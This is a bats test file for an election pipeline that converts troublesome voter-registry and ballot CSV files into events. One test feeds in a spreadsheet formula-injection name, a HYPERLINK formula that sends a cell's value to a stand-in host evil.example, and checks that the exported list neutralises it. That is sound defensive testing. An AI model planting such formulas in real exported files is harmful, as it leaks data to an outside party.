#!/usr/bin/env bats
# Spreadsheets that went wrong for other people, in ../shared/cases; the file there says what is expected of each.
load helper

cases=$BATS_TEST_DIRNAME/../../shared/cases

setup() {
	[[ -d $cases ]] || skip "the files are not at ../shared/cases"
	work=$BATS_TEST_TMPDIR
	cd "$work" || return
}

# registry STATUS NAME [OPTION]: the file as a registry, with this status.
registry() {
	run --separate-stderr "$top/pipelines/csv-to-registry" "${@:3}" "$cases/$2"
	assert_equal "$status" "$1"
}

# votes NAME BALLOT…: the file as ballots: CONTEST CANDIDATE… of each.
votes() {
	run -0 --separate-stderr "$top/pipelines/cvr-to-events" ballots m <"$cases/$1"
	diff <(printf '%s\n' "${@:2}") <(jq -r '[.detail.votes[] | .electionId, .candidateId] | join(" ")' <<<"$output")
	run -0 --separate-stderr "$top/pipelines/cvr-to-events" registry m Title 2027-03-01 <"$cases/$1"
}

# ids: the voters' ids in the registry.
ids() {
	jq -r .detail.voterId <<<"$output" | xargs
}

@test "01: ids in equal signs and quotes" {
	registry 0 01-equal-sign-ids.csv
	assert_equal "$(ids)" '0012 0013'
	registry 0 01b-equal-sign-ids-quoted.csv
	assert_equal "$(ids)" 0012
}

@test "05: the heading again" {
	registry 65 05-heading-repeated.csv
	assert_equal "$output" ''
	[[ $stderr == *'row 4: this is the heading again: remove the row'* ]]
}

@test "07: one address under several ids" {
	registry 0 07-same-person-twice.csv
	assert_equal "$(ids)" '1 2 3'
	[[ $stderr == *'row 3: warning: '*'row 2'*'row 4: warning: '*'row 2'* ]]
}

@test "08: mail addresses and no ids" {
	registry 65 08-email-only.csv
	[[ $stderr == *--make-ids* ]]
	registry 0 08-email-only.csv --make-ids
	assert_equal "$(ids | wc -w)" 2
}

@test "18: weights" {
	registry 65 18-weights.csv
	[[ $stderr == *Weight*'not supported'* ]]
}

@test "22: two contests in one record" {
	votes 22-ess-two-contests.csv 'm-mayor ann m-council cyd' 'm-council cyd' 'm-council dan' 'm-mayor bob m-council cyd' 'm-mayor bob m-council dan'
	assert_equal "$(jq -c 'select(.type == "Ballot Issued").detail | select(.ballotId == "b3").electionIds' <<<"$output")" '["m-council"]'
}

@test "23: Clear Ballot" {
	votes 23-clear-ballot.csv 'm ann' 'm bob' 'm bob'
}

@test "24: Dominion" {
	votes 24-dominion.csv 'm-mayor ann m-board cyd' 'm-mayor bob'
	assert_equal "$(jq -r 'select(.type == "Election Created").detail | "\(.description) \(.votesAllowed // 1)"' <<<"$output" | xargs)" 'Mayor 1 Board 2'
}

@test "25: empty rows and lines" {
	votes 25-trailing-empty-rows.csv 'm ann' 'm bob'
	votes 25b-trailing-empty-lines.csv 'm ann' 'm bob'
}

@test "28: ranks by other names" {
	votes 28-ranks-without-choice.csv 'm ann' 'm bob'
	votes 28b-ranks.csv 'm ann' 'm bob'
}

@test "29: spellings of a name" {
	votes 29-name-spellings.csv 'm vail-chris-l' 'm vail-chris-l' 'm ann-lee' 'm ann-lee'
}

@test "33: names in other scripts" {
	votes 33-names-in-other-scripts.csv 'm c1' 'm c2'
	assert_equal "$(jq -r 'select(.type == "Candidate Registered").detail.fullName' <<<"$output" | xargs)" '陈美玲 أمل'
}

@test "87: names that a spreadsheet would run" {
	registry 0 87-formula-names.csv
	assert_equal "$(jq -r .detail.fullName <<<"$output")" $'=HYPERLINK("http://evil.example/?"&F2,"click")\n@SUM(1+1)'
	printf '%s\n' "$output" >registry
	"$top/pipelines/init" -d data -r registry 2>/dev/null
	"$top/pipelines/run" -d data </dev/null >/dev/null 2>&1
	es-query -d data voters | es-issue -d data --list list.csv >issued
	run ! grep -E '(^|,)"?[=+@-]' list.csv
	assert_equal "$(cut -d , -f 1 list.csv | sed 1d | xargs)" '0071 0072'
}
